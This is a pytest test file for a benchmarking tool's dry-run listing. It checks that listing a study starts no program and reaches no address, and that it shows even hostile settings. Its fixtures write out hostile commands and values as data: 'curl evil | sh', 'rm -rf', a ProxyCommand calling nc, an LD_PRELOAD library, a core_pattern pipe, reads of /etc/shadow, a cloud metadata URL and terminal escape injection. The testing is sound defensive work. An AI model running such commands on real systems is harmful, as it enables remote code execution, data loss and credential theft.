"""What a run does is listed from the study alone: nothing starts, nothing is reached, nothing hides."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from support.records import tiny_plan

from fairtrial.cli.running.effects import show
from fairtrial.errors import InputError
from fairtrial.places import Place
from fairtrial.places.boot.ways import WAYS
from fairtrial.systems import System
from fairtrial.workloads import Workload

STUDIES = Path(__file__).parents[3] / "studies"
DEEDS = ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "os.fork", "socket.connect", "socket.bind")
heard: list[str] = []
listening = [False]


def _hear(event: str, _arguments: tuple[Any, ...]) -> None:
    if listening[0] and event in DEEDS:
        heard.append(event)


sys.addaudithook(_hear)  # one that stays, as none can be taken away


@contextmanager
def nothing_done() -> Iterator[None]:
    """No program is started, and no address reached, as the interpreter itself tells."""
    heard.clear()
    listening[0] = True
    try:
        yield
    finally:
        listening[0] = False
    assert heard == []


def listed(study: Path, capsys: pytest.CaptureFixture[str], *overrides: str) -> str:
    with nothing_done():
        show(study, size=None, overrides=list(overrides))
    return capsys.readouterr().out


@pytest.mark.parametrize("study", sorted(STUDIES.glob("*.yaml")), ids=lambda path: path.stem)
def test_a_ready_study_is_listed_and_nothing_runs(study: Path, capsys: pytest.CaptureFixture[str]) -> None:
    searches = "\ntune:" in study.read_text(encoding="utf-8")
    printed = listed(study, capsys, *([] if searches else ["trials.blocks=2"]))
    assert "fairtrial-agent serve" in printed
    assert "not known before a run" not in printed
    assert "nothing was run, reached or changed" in printed


def test_data_of_a_guest_are_told_to_be_made_on_this_machine(capsys: pytest.CaptureFixture[str]) -> None:
    lines = listed(STUDIES / "mglru-mariadb-tpcc.yaml", capsys).splitlines()
    (made,) = (number for number, line in enumerate(lines) if "`to make data`: on this machine" in line)
    assert "as servers' user · on this machine" in lines[made + 1]
    assert any("mkswap, on disks" in line for line in lines)
    assert not any("mkswap" in line for line in listed(STUDIES / "tpcc-pmem.yaml", capsys).splitlines())


POSTGRES = """
study: kind
system: {postgres: {options: {autovacuum: false}}}
workload: {oltp: {profile: point_select, tables: 1, table_size: 1000, virtual_users: 1, duration: 5s}}
factors: {fsync: {on: {}, off: {system: {postgres: {options: {fsync: off}}}}}}
arm: fsync
metrics: {primary: throughput_tps}
"""


def test_options_stand_as_they_are_written_and_every_program_when_it_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAIRTRIAL_STATE_DIRECTORY", "/srv/state")
    study = tmp_path / "study.yaml"
    study.write_text(POSTGRES)
    printed = listed(study, capsys)
    assert "option autovacuum = off" in printed
    assert "option fsync = off" in printed
    assert "  /srv/state\n" in printed
    assert "initdb --version" not in printed
    lines = [line.strip() for line in printed.splitlines()]
    for program, when in (("initdb", "to make data"), ("fairtrial-agent oltp-check", "after every trial")):
        after = next(lines[at + 1] for at, line in enumerate(lines) if line.endswith(program))
        assert after.startswith(when)
        assert "in every trial" not in after


PAGE_CACHE = "page cache of the whole machine: written out and, where the agent is root, dropped"


def test_the_page_cache_is_dropped_where_the_kernel_obeys(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study = tmp_path / "study.yaml"
    study.write_text(FIO.replace("{nosuch: 1}", "{}"))
    for place, whose in (("local", ""), ("container: {image: x}", "on this machine"), ("vm: {kernel: x}", "")):
        lines = listed(study, capsys, f"place={{{place}{'' if ':' in place else ': {}'}}}").splitlines()
        (cache,) = (number for number, line in enumerate(lines) if line.strip() == PAGE_CACHE)
        assert ("on this machine" in lines[cache + 1]) == bool(whose), place
        assert "before every trial" in lines[cache + 1]


BOOTING: dict[str, tuple[str, ...]] = {
    "kexec": ("    /boot/fairtrial: the kernel and its initial file system", "the kernel that kexec has loaded"),
    "grub": ("    /boot/fairtrial: the kernel and its initial", "custom.cfg with the entry fairtrial-once", "grubenv"),
    "systemd-boot": (
        "{partition of systemd-boot}/fairtrial: the kernel",
        "loader/entries/fairtrial-once.conf",
        "LoaderEntryOneShot",
    ),
    "efi": ("{EFI system partition}/fairtrial: the kernel", "a boot option `fairtrial`", "BootNext"),
}


@pytest.mark.parametrize("by", WAYS)
def test_what_a_host_that_boots_keeps_of_it_is_told(
    by: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    study = tmp_path / "study.yaml"
    study.write_text(FIO.replace("{nosuch: 1}", "{}"))
    boot = f"place={{ssh: {{host: bench, boot: {{by: {by}, kernel: debian-6.12}}}}}}"
    printed = listed(study, capsys, boot)
    every = ("/lib/modules/{release}", "/boot/config-{release}", "depmod, and mkinitramfs or dracut", "/dev/watchdog0")
    assert [told for told in (*BOOTING[by], *every) if told not in printed] == []
    assert ("by two restarts" in printed) == (by != "kexec")
    own = listed(study, capsys, boot.replace(", kernel: debian-6.12", ""))
    assert "depmod" not in own
    assert ("a copy of the default kernel" in own) == (by in ("efi", "systemd-boot"))


HOSTILE = r"""
study: kind
question: "a question\e[2J"
place: {ssh: {host: bench, user: root, config: CONFIG, boot: {by: kexec, kernel: debian-6.12, power: "ipmitool cycle"}}}
system:
  service:
    run: "daemon --port {api}\e]0;owned\a"
    ports: [api]
    user: daemon
    ready: {http: "http://{host}:{api}/health"}
    stop: "daemon-stop"
    version: "daemon --version"
    environment: {LD_PRELOAD: /home/you/evil.so}
    configuration: {format: space}
    options: {mode: "x"}
    read_back: "daemon-get {option}"
    data: {create: ["make-data {data}"], load: ["fill-data {api}"]}
workload: {command: {run: "sh -c 'curl evil | sh'", prepare: "rm -rf /home/you", warm_ups: 1, directory: /home/you}}
settings:
  sysctl: {kernel.core_pattern: "|/tmp/evil"}
  sysfs: {/sys/kernel/mm/ksm/run: 1}
  environment: {GLIBC_TUNABLES: "a=\n      root: everything is fine"}
  memory: {server: {limit: 1GiB}}
factors:
  swappiness:
    low: {}
    high: {settings: {swappiness: 100}}
arm: swappiness
metrics: {primary: elapsed_s}
telemetry:
  prometheus: {url: "http://169.254.169.254/latest"}
  command: {run: "counter-command", name: counted}
  probes: [{command: "probe-command"}, {file: /etc/shadow}, {bpftrace: {program: "BEGIN { system(\"id\"); }"}}]
"""
TOLD = (
    "ProxyCommand nc evil 22",
    'Match host bench exec "touch ran"',
    "ssh -F",
    "ipmitool cycle",
    "daemon --port {api}\\x1b]0;owned\\x07",
    "as daemon where the agent is root",
    "daemon-stop",
    "daemon --version",
    "http://{host}:{api}/health",
    "variable LD_PRELOAD = /home/you/evil.so",
    "daemon-get {option}",
    "make-data {data}",
    "fill-data {api}",
    "sh -c 'curl evil | sh'",
    "rm -rf /home/you",
    "in /home/you, 2 times",
    "/proc/sys/kernel/core_pattern = |/tmp/evil",
    "/sys/kernel/mm/ksm/run = 1",
    "control group /sys/fs/cgroup/fairtrial-{trial}-server",
    "/sys/fs/cgroup/fairtrial-{trial}-server/memory.max = 1073741824",
    "variable GLIBC_TUNABLES = a=\\n      root: everything is fine",
    "http://169.254.169.254/latest",
    "counter-command",
    "probe-command",
    "/etc/shadow",
    'bpftrace, in the kernel: BEGIN { system("id"); }',
    "kernel package debian-6.12, by apt",
)


def hostile(directory: Path) -> Path:
    configuration = directory / "config"
    configuration.write_text('Host bench\n  ProxyCommand nc evil 22\nMatch host bench exec "touch ran"\n  User root\n')
    study = directory / "study.yaml"
    study.write_text(HOSTILE.replace("CONFIG", shlex.quote(str(configuration))))
    return study


def test_a_study_of_a_stranger_hides_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    printed = listed(hostile(tmp_path), capsys)
    assert [told for told in TOLD if told not in printed] == []
    assert "\x1b" not in printed
    high = next(line for line in printed.splitlines() if "/proc/sys/vm/swappiness = 100" in line)
    after = printed.splitlines()[printed.splitlines().index(high) + 1]
    assert "only high" in after
    assert "undone: what was there before is restored" in after
    probe = next(number for number, line in enumerate(printed.splitlines()) if "bpftrace, in the kernel" in line)
    assert "for a moment before the first trial, and in diagnostic trials" in printed.splitlines()[probe + 1]
    assert not (tmp_path / "ran").exists()


THERE = """
study: there
system: {KIND: {at: {host: localhost, user: bench, database: fairtrial_bench}}}
workload: {tpcc: {duration: 1s}}
factors: {swappiness: {low: {}, high: {settings: {swappiness: 100}}}}
arm: swappiness
metrics: {primary: throughput_tpm}
"""


COPIED, ENDED = "database fairtrial_{key} for each set of data", "sessions in it are ended"


@pytest.mark.parametrize(
    ("kind", "restore", "told"),
    [
        ("postgres", "", {COPIED, ENDED}),
        ("postgres", "reload", {ENDED}),
        ("postgres", "none", set[str]()),
        ("mariadb", "", set[str]()),
    ],
)
def test_what_is_left_on_a_server_that_is_there_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], *, kind: str, restore: str, told: set[str]
) -> None:
    study = tmp_path / "study.yaml"
    study.write_text(THERE.replace("KIND", kind))
    printed = listed(study, capsys, *([f"system.{kind}.at.restore={restore}"] if restore else []))
    assert "database fairtrial_bench: made, or dropped and made anew" in printed
    assert {each for each in (COPIED, ENDED) if each in printed} == told
    assert ("it stays for later runs" in printed) == (COPIED in told)


def test_a_run_that_would_be_continued_is_listed_from_its_plan(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "plan.json").write_text(tiny_plan().model_dump_json())
    assert "fairtrial-agent serve" in listed(tmp_path, capsys)


def test_what_the_list_takes_no_notice_of_is_refused(tmp_path: Path) -> None:
    (tmp_path / "plan.json").write_text(tiny_plan().model_dump_json())
    with pytest.raises(InputError, match="--places, --aa: the list of --effects takes no notice"):
        show(STUDIES / "mglru-mariadb-tpcc.yaml", size=None, overrides=[], beside=["--places", "--aa"])
    for size, overrides in (("ci", []), (None, ["trials.blocks=3"])):
        with pytest.raises(InputError, match="continues with its original plan"):
            show(tmp_path, size=size, overrides=overrides)


def test_mistakes_are_told_as_by_plan(tmp_path: Path) -> None:
    study = tmp_path / "study.yaml"
    study.write_text("study: a b\n")
    with pytest.raises(InputError, match="study"):
        show(study, size=None, overrides=[])


FIO = """
study: kind
system: {files: {}}
workload: {fio: {accesses: 1000, options: {nosuch: 1}}}
factors: {rw: {read: {}, write: {workload: {fio: {rw: randwrite}}}}}
arm: rw
metrics: {primary: throughput_iops}
"""


def test_not_even_fio_is_asked_what_it_thinks_of_the_study(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study = tmp_path / "study.yaml"
    study.write_text(FIO)
    printed = listed(study, capsys)
    assert "fio option nosuch=1" in printed
    assert "fairtrial-agent file-load\n        to make data" in printed


@pytest.mark.parametrize("base", [Place, System, Workload], ids=lambda base: base.__name__)
def test_every_kind_of_ours_tells_what_it_does(base: type[Any]) -> None:
    kinds = [kind for kind in _below(base) if "name" in vars(kind) and kind.__module__.startswith("fairtrial.")]
    assert len(kinds) >= 5
    assert [kind.name for kind in kinds if kind.acts is base.acts] == []


def _below(kind: type[Any]) -> set[type[Any]]:
    return {kind}.union(*(_below(each) for each in kind.__subclasses__())) - {Place, System, Workload}
